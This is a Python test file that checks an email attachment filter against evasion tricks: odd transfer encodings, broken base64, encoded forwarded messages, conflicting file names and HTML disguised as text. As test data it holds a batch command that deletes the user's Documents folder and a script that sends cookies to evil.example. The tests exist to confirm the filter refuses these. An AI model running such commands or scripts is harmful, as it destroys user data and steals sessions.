"""Attachments judged as a mail client decodes and saves them (defect review).

Each case is a way the content or the name a reader gets differed from what
:func:`policy.attachments.check_message` judged: an executable behind a transfer encoding
``email`` does not recognise exactly, behind base64 it cannot decode, inside an encoded
``message/rfc822`` part, a dangerous name in a second file-name parameter, and an HTML page
whose first line is plain text.
"""

from __future__ import annotations

import base64

import pytest

from policy.attachments import check_message
from policy.decision import Reason
from tests.policy import corpus as c

REFUSED = Reason.ATTACHMENT_TYPE_REFUSED


@pytest.mark.parametrize(
    "encoding",
    [b"base64 ", b"base64\t", b"base64 (commentaire)", b"base64;", b'"base64"', b"x-base64"],
)
def test_an_encoding_email_does_not_decode_exactly_does_not_hide_an_executable(
    encoding: bytes,
) -> None:
    raw = c.raw_message(
        b'Content-Type: application/octet-stream; name="scan.bin"\r\n'
        b"Content-Transfer-Encoding: " + encoding + b"\r\n",
        c.exe_base64(),
    )
    decision = check_message(raw).decision
    assert decision.reason is REFUSED, decision
    assert decision.detail.startswith("scan.bin: ")


def test_a_trailing_space_after_a_known_encoding_is_still_that_encoding() -> None:
    raw = c.raw_message(
        b'Content-Type: application/pdf; name="cr.pdf"\r\nContent-Transfer-Encoding: base64 \r\n',
        base64.encodebytes(c.pdf()).replace(b"\n", b"\r\n"),
    )
    assert check_message(raw).decision.allowed


def test_a_repeated_transfer_encoding_is_refused() -> None:
    raw = c.raw_message(
        b'Content-Type: application/octet-stream; name="scan.bin"\r\n'
        b"Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n",
        c.exe_base64(),
    )
    decision = check_message(raw).decision
    assert decision.reason is REFUSED
    assert "repeated Content-Transfer-Encoding" in decision.detail


@pytest.mark.parametrize("tail", [b"A", b"A==", b"=A", b"!A"])
def test_base64_with_one_character_too_many_does_not_hide_an_executable(tail: bytes) -> None:
    raw = c.raw_message(
        b'Content-Type: application/octet-stream; name="scan.bin"\r\n'
        b"Content-Transfer-Encoding: base64\r\n",
        c.exe_base64() + tail,
    )
    decision = check_message(raw).decision
    assert decision.reason is REFUSED, decision
    assert decision.detail == "scan.bin: base64 content that cannot be decoded"


def test_base64_with_ignorable_garbage_is_judged_decoded() -> None:
    body = base64.encodebytes(c.pdf()).replace(b"\n", b"!\r\n")
    raw = c.raw_message(
        b'Content-Type: application/pdf; name="cr.pdf"\r\nContent-Transfer-Encoding: base64\r\n',
        body,
    )
    assert check_message(raw).decision.allowed


@pytest.mark.parametrize("encoding", [b"base64", b"quoted-printable"])
def test_an_encoded_forwarded_message_is_refused(encoding: bytes) -> None:
    inner = (
        b"From: x@autre.mssante.fr\r\nSubject: i\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: application/octet-stream; name="a.exe"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n" + c.exe_base64() + b"\r\n"
    )
    body = (
        base64.encodebytes(inner).replace(b"\n", b"\r\n") if encoding == b"base64" else inner
    )
    raw = c.raw_message(
        b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: " + encoding + b"\r\n",
        body,
    )
    decision = check_message(raw).decision
    assert decision.reason is REFUSED, decision
    assert decision.detail == "encoded message/rfc822 part"


def test_a_plain_forwarded_message_still_passes() -> None:
    inner = (
        b"From: x@autre.mssante.fr\r\nSubject: i\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: application/pdf; name="cr.pdf"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(c.pdf()).replace(b"\n", b"\r\n")
    )
    raw = c.raw_message(b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: 7bit\r\n", inner)
    assert check_message(raw).decision.allowed


BATCH = b'rd /s /q "%USERPROFILE%\\Documents"\r\n'


@pytest.mark.parametrize(
    "headers",
    [
        # Content-Type name= (some clients save under it) beside a harmless filename=.
        b'Content-Type: text/plain; name="nettoyage.bat"\r\n'
        b'Content-Disposition: attachment; filename="notes.txt"\r\n',
        # RFC 2231 filename* (RFC 6266 readers prefer it) beside a plain filename=.
        b"Content-Type: text/plain\r\n"
        b"Content-Disposition: attachment; filename=\"notes.txt\"; "
        b"filename*=UTF-8''nettoyage.bat\r\n",
        # A repeated filename= (readers differ on which one counts).
        b"Content-Type: text/plain\r\n"
        b'Content-Disposition: attachment; filename="notes.txt"; filename="nettoyage.bat"\r\n',
    ],
)
def test_every_file_name_of_an_attachment_is_checked(headers: bytes) -> None:
    decision = check_message(c.raw_message(headers, BATCH)).decision
    assert decision.reason is REFUSED, decision
    assert decision.detail == "nettoyage.bat: file name extension .bat not accepted"


def test_agreeing_names_still_pass() -> None:
    raw = c.raw_message(
        b'Content-Type: text/plain; name="notes.txt"\r\n'
        b'Content-Disposition: attachment; filename="notes.txt"\r\n',
        b"Tension 12/8, revoir dans un mois.\r\n",
    )
    report = check_message(raw)
    assert report.decision.allowed
    assert [a.name for a in report.attachments] == ["notes.txt"]


@pytest.mark.parametrize("name", ["compte-rendu.html", "cr.htm", "cr.xhtml", "cr.mht"])
def test_an_html_page_behind_a_first_line_of_text_is_refused(name: str) -> None:
    page = (
        b"Bonjour,\n<html><body><script>fetch('https://evil.example/?'+document.cookie)"
        b"</script></body></html>\n"
    )
    raw = c.raw_message(
        f'Content-Type: text/plain; name="{name}"\r\n'
        f'Content-Disposition: attachment; filename="{name}"\r\n'.encode(),
        page,
    )
    decision = check_message(raw).decision
    assert decision.reason is REFUSED, decision
    assert "not accepted" in decision.detail
